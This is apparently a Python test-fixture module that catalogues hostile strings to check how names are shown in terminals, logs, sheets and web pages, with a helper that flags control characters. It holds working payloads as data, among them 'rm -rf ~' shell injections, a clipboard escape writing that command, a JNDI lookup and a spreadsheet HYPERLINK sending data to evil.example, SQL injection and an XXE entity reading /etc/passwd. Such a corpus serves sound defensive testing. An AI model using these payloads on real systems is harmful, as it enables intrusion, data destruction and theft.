"""Names as nobody should give them, and what may be left of them on each kind of output."""

import unicodedata
from collections.abc import Mapping
from typing import Final

_TERMINAL: Final[Mapping[str, str]] = {
    "clear": "\x1b[2J",
    "home": "\x1b[H\x1b[J",
    "up and over": "\x1b[1A\x1b[2Kall is well",
    "colour": "\x1b[31mred\x1b[0m",
    "hidden": "\x1b[8msecret\x1b[0m",
    "title": "\x1b]0;owned\x07",
    "title, ended well": "\x1b]2;owned\x1b\\",
    "link": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "link, ended by a bell": "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
    "clipboard": "\x1b]52;c;cm0gLXJmIH4K\x07",
    "notification": "\x1b]9;hello\x07",
    "picture of iTerm": "\x1b]1337;File=inline=1:AAAA\x07",
    "sixel": "\x1bPq#0;2;0;0;0\x1b\\",
    "privacy message": "\x1b^x\x1b\\",
    "program command": "\x1b_Gf=100;AAAA\x1b\\",
    "report": "\x1b[6n",
    "answerback": "\x05",
    "device": "\x1b[c\x1b[>c",
    "other screen": "\x1b[?1049h",
    "mouse": "\x1b[?1000h\x1b[?1006h",
    "paste": "\x1b[200~rm -rf ~\x1b[201~",
    "reset": "\x1bc",
    "charset": "\x1b(0lqqk\x0e",
    "half a sequence": "\x1b[",
    "escape alone": "\x1b",
    "eight-bit sequence": "\x9b2J",
    "eight-bit system command": "\x9d0;owned\x9c",
    "eight-bit device": "\x90q\x9c",
    "backspaces": "good\b\b\b\bevil",
    "deletes": "good\x7f\x7fevil",
    "bells": "\a" * 20,
    "form feed": "\f\v",
    "shift": "\x0e\x0f",
    "all controls": "".join(map(chr, range(32))),
    "all high controls": "".join(map(chr, range(127, 160))),
}
"""What steers a terminal."""

_LINES: Final[Mapping[str, str]] = {
    "line feed": "a\nb",
    "return": "a\rb",
    "both": "a\r\nb",
    "next line": "a\x85b",
    "line separator": "a\u2028b",
    "paragraph separator": "a\u2029b",
    "vertical": "a\vb",
    "files": "a\x1cb\x1dc\x1ed\x1fe",
    "forged log line": '\n{"level": "info", "event": "run.passed"}',
    "forged status": "\nrun-1  passed · 9 of 9 VMs settled",
    "forged header": "\r\nSet-Cookie: a=b\r\n\r\n<html>",
    "forged metric": "\norchestrator_up 1\n# HELP x",
    "tab": "a\tb",
    "only lines": "\n\n\n",
    "lines around": "\n a \n",
}
"""What ends a line."""

_DIRECTION: Final[Mapping[str, str]] = {
    "override": "\u202etxt.exe",
    "embedding": "\u202aa\u202bb\u202c",
    "isolate": "\u2066a\u2067b\u2068c\u2069",
    "marks": "\u200ea\u200f\u061c",
    "right to left": "\u05d0\u05d1\u05d2 \u0645\u0631\u062d\u0628\u0627",
    "zero width": "vm\u200b-\u200c1\u200d",
    "byte order": "\ufeffvm\ufffe",
    "soft hyphen": "v\xadm",
    "word joiner": "v\u2060m\u2061",
    "variation": "v\ufe0fm\U000e0100",
    "tags": "".join(chr(0xE0000 + ord(each)) for each in "rm -rf"),
    "filler": "\u3164\u115f",
    "interlinear": "\ufff9a\ufffab\ufffb",
    "Mongolian": "\u180e",
    "braille": "\u2800",
    "spaces": "\xa0\u2003\u3000",
}
"""What turns a text around, or cannot be seen."""

_CHARACTERS: Final[Mapping[str, str]] = {
    "NUL": "a\x00b",
    "NUL alone": "\x00",
    "half a pair": "a\ud800b",
    "other half": "a\udfffb",
    "a pair in halves": "\ud83d\ude00",
    "halves turned around": "\ude00\ud83d",
    "escaped byte": "a\udc80\udcffb",
    "no character": "\uffff\ufdd0\U0010ffff",
    "private": "\ue000\U000f0000",
    "replacement": "\ufffd",
    "emoji": "\U0001f525\U0001f468\u200d\U0001f469\u200d\U0001f467\U0001f3fd",
    "flag": "\U0001f1e9\U0001f1ea",
    "combining": "e\u0301\u0302\u0303",
    "a flood of marks": "Z" + "\u0301\u0489\u035c" * 200,
    "marks alone": "\u0301" * 50,
    "ligature": "\ufdfa" * 30,
    "wide": "\u65e5\u672c\u8a9e\uff21\uff22\uff23",
    "German": "Gr\xf6\xdfe \u1e9e",
    "Turkish": "\u0130\u0131\u017f",
    "mathematics": "\U0001d42f\U0001d426",
    "look-alike": "v\u043c-1",
    "mistaken for Latin": "Gr\xc3\xb6\xc3\x9fe",
    "unassigned": "\u0378\U0001fffe",
}
"""Characters that some place cannot hold."""

_LANGUAGES: Final[Mapping[str, str]] = {
    "script": "<script>alert(1)</script>",
    "image": '"><img src=x onerror=alert(1)>',
    "svg": "<svg/onload=alert(1)>",
    "entity": "&lt;b&gt;&#x1b;[2J",
    "comment": "<!-- --><![CDATA[ ]]>",
    "address": "javascript:alert(1)",
    "formula": "=cmd|' /C calc'!A0",
    "formula with a plus": "+1+cmd|' /C calc'!A0",
    "formula with a minus": "-2+3+cmd|' /C calc'!A0",
    "formula with an at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula behind a tab": "\t=1+1",
    "formula in full width": "\uff1d1+1",
    "link of a sheet": '=HYPERLINK("https://evil.example?x="&A1,"x")',
    "statement": "'; DROP TABLE run; --",
    "condition": "' OR '1'='1",
    "double quotes": '"; DELETE FROM event; --',
    "like": "%_\\%",
    "dollar quotes": "$$; SELECT pg_sleep(9); $$",
    "parameter": ":run_id ? %s %(x)s $1",
    "copy": "\\.\\N",
    "percent": "%s%n%x%1000000d",
    "braces": "{0.__class__}{x!r:>9999}",
    "template": "{{7*7}}${7*7}#{7*7}<%= 7*7 %>",
    "rich": "[bold red]x[/] [link=https://evil.example]y[/link] [/nothing]",
    "lookup": "${jndi:ldap://evil.example/a}",
    "shell": "$(rm -rf ~)`id`;|&",
    "path": "../../../etc/passwd\\..\\x",
    "device": "CON.txt:stream",
    "quote": '"',
    "backslash": "\\",
    "backslash and quote": '\\"',
    "escape of JSON": "\\u001b[2J\\n",
    "half an escape": "\\u12",
    "object": '"}, {"x": "',
    "array": '"]}]}',
    "yaml": "a: b\n- c\n---\n!!python/object x",
    "xml": "<?xml?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
    "Kusto": "' or 1==1 | project x //",
    "label": 'a"b\\c\nd} 1',
    "url": "https://evil.example/?a=b#c",
    "percent encoded": "%1b%5b2J%0d%0a",
    "markdown": "![x](https://evil.example) [y](javascript:1)",
    "mention": "@everyone <!channel>",
}
"""What is a word in some language."""

_SIZES: Final[Mapping[str, str]] = {
    "nothing": "",
    "a space": " ",
    "spaces around": "  x  ",
    "null": "null",
    "true": "true",
    "not a number": "NaN",
    "zero": "0",
    "minus": "-",
    "a run's option": "--all",
    "help": "-h",
    "dots": "..",
    "long": "x" * 5_000,
    "long without breaks": "\u65e5" * 3_000,
    "long and steering": "\x1b[2J" * 1_000,
    "very long line": "a b " * 5_000,
}
"""Too little, or too much."""

NAMES: Final[Mapping[str, str]] = {
    **_TERMINAL,
    **_LINES,
    **_DIRECTION,
    **_CHARACTERS,
    **_LANGUAGES,
    **_SIZES,
}
"""Every hostile name, by what it is."""

_STEERS: Final = {"Cc", "Cf", "Cs", "Co", "Zl", "Zp"}


def steering(text: str, *, ours: str = "") -> set[str]:
    """Return the characters that steer a terminal, end a line or hide; `ours` may stay."""
    return {each for each in text if each not in ours and unicodedata.category(each) in _STEERS}
